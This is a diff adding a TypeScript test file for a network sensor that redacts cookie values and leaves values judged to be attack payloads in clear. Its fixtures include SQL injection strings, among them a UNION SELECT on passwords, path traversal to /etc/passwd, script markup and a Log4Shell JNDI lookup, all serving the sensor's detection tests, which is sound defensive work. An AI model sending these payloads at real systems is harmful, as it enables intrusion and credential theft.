@@ -1,0 +1,98 @@
+import { createHmac } from 'node:crypto';
+import { mkdtempSync, rmSync, writeFileSync } from 'node:fs';
+import { tmpdir } from 'node:os';
+import { join } from 'node:path';
+import fc from 'fast-check';
+import { CookiePayloads, Redactor } from '@/sensor/redact';
+import { pcapFile, TcpConversation } from './helpers/pcap-writer';
+import { runCommand } from './helpers/run';
+
+const key = Buffer.from('test-redaction-key');
+const expected = (value: string) => `redacted:k1:${createHmac('sha256', key).update(value).digest('hex').slice(0, 16)}:${Buffer.byteLength(value)}`;
+
+function redactCookie(value: string, payloads?: CookiePayloads): { value: string; inClear: number } {
+  const redactor = new Redactor({ key, keyId: 'k1', ...(payloads ? { cookiePayload: (n: string, v: string) => payloads.isPayload(n, v) } : {}) });
+  const headers = [{ name: 'Cookie', value }];
+  redactor.headers(headers);
+  return { value: headers[0]!.value, inClear: redactor.cookiePayloadsInClear };
+}
+
+describe('cookie values that are attack payloads', () => {
+  it.each([
+    ['SQL injection', "1' OR '1'='1"],
+    ['URL-encoded path traversal', '..%2F..%2F..%2Fetc%2Fpasswd'],
+    ['script markup', '%3Cscript%3Ealert(1)%3C%2Fscript%3E'],
+    ['a Log4Shell lookup', '${jndi:ldap://203.0.113.9/a}'],
+    ['base64 of a traversal', Buffer.from('../../../../etc/passwd').toString('base64')],
+  ])('%s is sent in clear, the session id and preferences beside it stay redacted', (_what, payload) => {
+    const { value, inClear } = redactCookie(`sid=abc123def456; id=${payload}; theme=dark`, new CookiePayloads());
+    expect(value).toBe(`sid=${expected('abc123def456')}; id=${payload}; theme=${expected('dark')}`);
+    expect(inClear).toBe(1);
+  });
+
+  it('redacts every value without the check (COOKIE_PAYLOADS=redacted)', () => {
+    expect(redactCookie("sid=abc; id=1' OR '1'='1").value).toBe(`sid=${expected('abc')}; id=${expected("1' OR '1'='1")}`);
+  });
+
+  it.each([
+    ['a session id', 'PHPSESSID', 'u8r9v2k1m3n4b5v6c7x8z9a0s1'],
+    ['a JWT', 'auth', 'eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiIxMjMifQ.c2lnbmF0dXJlLXNpZ25hdHVyZQ'],
+    ['an analytics id', '_ga', 'GA1.2.1234567890.1700000000'],
+    ['a consent record', 'CookieConsent', '{stamp:%27Ab3+Xy%2Fz%3D%3D%27%2Cnecessary:true%2Cpreferences:false%2Cver:1}'],
+    ['a URL-encoded JSON preference', 'prefs', '%7B%22lang%22%3A%22en%22%2C%22currency%22%3A%22EUR%22%7D'],
+    ['a return path', 'return_to', '%2Faccount%2Forders%3Fpage%3D2'],
+  ])('keeps %s redacted', (_what, name, value) => {
+    expect(new CookiePayloads().isPayload(name, value)).toBe(false);
+  });
+
+  it('judges token-alphabet values (what session ids and API tokens are made of) as secrets', () => {
+    const payloads = new CookiePayloads();
+    fc.assert(
+      fc.property(
+        fc.string({ unit: fc.constantFrom(...'ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789-_'.split('')), minLength: 8, maxLength: 200 }),
+        (token) => {
+          expect(payloads.isPayload('sid', token)).toBe(false);
+        },
+      ),
+      { numRuns: 300 },
+    );
+  });
+});
+
+describe('the sensor sends an attack cookie in clear, end to end (--output stdout)', () => {
+  let dir: string;
+  let pcap: string;
+  beforeAll(() => {
+    dir = mkdtempSync(join(tmpdir(), 'sensor-cookie-'));
+    const conversation = new TcpConversation({ clientIp: '192.0.2.10', serverIp: '198.51.100.5', clientPort: 51000 }).handshake();
+    conversation
+      .send('client', "GET /account HTTP/1.1\r\nHost: shop.example.com\r\nCookie: sid=abc123def456; id=1' UNION SELECT password FROM users--\r\n\r\n")
+      .send('server', 'HTTP/1.1 200 OK\r\nContent-Type: text/plain\r\nContent-Length: 2\r\n\r\nok')
+      .close();
+    pcap = join(dir, 'cookie.pcap');
+    writeFileSync(pcap, pcapFile('ethernet', conversation.frames));
+  });
+  afterAll(() => rmSync(dir, { recursive: true, force: true }));
+
+  const cookieSent = async (extra: string[]): Promise<string> => {
+    const cli = join(__dirname, '../../bin/tx-prevent-sensor.js');
+    const result = await runCommand(
+      process.execPath,
+      [cli, '--pcap', pcap, '--output', 'stdout', '--status-port', '0', '--redaction-key', 'k', '--sensor-id', 'cookie-test', ...extra],
+      { PATH: process.env.PATH, HOME: process.env.HOME },
+    );
+    expect(result.code).toBe(0);
+    const exchange = JSON.parse(result.stdout.trim()) as { request: { headers: Array<{ name: string; value: string }> } };
+    return exchange.request.headers.find((h) => h.name === 'Cookie')!.value;
+  };
+
+  it('by default, with the session id redacted', async () => {
+    const cookie = await cookieSent([]);
+    expect(cookie).toMatch(/^sid=redacted:[0-9a-f]{8}:[0-9a-f]{16}:12; id=1' UNION SELECT password FROM users--$/);
+  });
+
+  it('not with --cookie-payloads redacted', async () => {
+    const cookie = await cookieSent(['--cookie-payloads', 'redacted']);
+    expect(cookie).toMatch(/^sid=redacted:[0-9a-f]{8}:[0-9a-f]{16}:12; id=redacted:[0-9a-f]{8}:[0-9a-f]{16}:37$/);
+  });
+});
